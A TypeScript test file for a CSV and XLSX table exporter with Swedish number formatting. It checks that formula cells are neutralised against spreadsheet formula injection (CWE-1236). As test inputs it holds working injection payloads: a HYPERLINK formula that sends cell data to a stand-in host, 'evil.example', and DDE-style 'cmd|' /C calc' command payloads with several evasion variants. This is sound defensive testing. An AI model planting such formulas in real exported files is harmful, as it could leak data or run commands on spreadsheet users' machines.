import ExcelJS from 'exceljs';
import { type ExportTable, tableToCsv, tableToXlsx } from './table-export';

const table = (rows: ExportTable['rows']): ExportTable => ({
  sheet: 'Test',
  columns: [{ heading: 'Text' }, { heading: 'Antal', kind: 'count' }, { heading: 'Belopp (kr)', kind: 'amount' }],
  rows,
});
/** The data lines of the CSV, without the byte-order mark, the heading and the last line break. */
const lines = (t: ExportTable): string[] => tableToCsv(t).slice(1).split('\r\n').slice(1, -1);

describe('the CSV writer (formula injection, CWE-1236)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1;"Klicka")', `"'=HYPERLINK(""http://evil.example/?""&A1;""Klicka"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', `"'\t'=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1+1', `"'\n=1+1"`],
    ['\0=1+1', "'\0=1+1"],
    ['＝1+1', "'＝1+1"],
  ])('writes the text cell %j with a leading apostrophe', (text, cell) => {
    expect(lines(table([[text, 1, 2]]))).toEqual([`${cell};1;2,00`]);
  });

  it('neutralises a formula behind a comma as well: where the list separator is a comma, a cell starts there', () => {
    expect(lines(table([["Farsta,=cmd|' /C calc'!A0", null, null]]))).toEqual([`"Farsta,'=cmd|' /C calc'!A0";;`]);
    expect(lines(table([['Kvinna, Man, -', null, null]]))).toEqual([`"Kvinna, Man, '-";;`]);
  });

  it('writes numbers as numbers that Swedish Excel sums, negative ones too; a text that looks like one stays text', () => {
    expect(lines(table([['Farsta', -3, -1234.5]]))).toEqual(['Farsta;-3;-1234,50']);
    expect(lines(table([['-5', 0, 0.1]]))).toEqual(["'-5;0;0,10"]);
  });

  it('neutralises the headings as well, and leaves ordinary text alone', () => {
    const csv = tableToCsv({ sheet: 'x', columns: [{ heading: '=Rubrik' }, { heading: 'Kön' }], rows: [] });
    expect(csv).toBe("\ufeff'=Rubrik;Kön\r\n");
  });

  it('keeps the xlsx cells plain strings: a formula is never written into the workbook', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await tableToXlsx(table([["=cmd|' /C calc'!A0", -1, -2.5]]))) as unknown as ExcelJS.Buffer,
    );
    const row = workbook.worksheets[0].getRow(2);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(1).value).toBe("=cmd|' /C calc'!A0");
    expect(row.getCell(2).value).toBe(-1);
    expect(row.getCell(3).value).toBe(-2.5);
  });
});
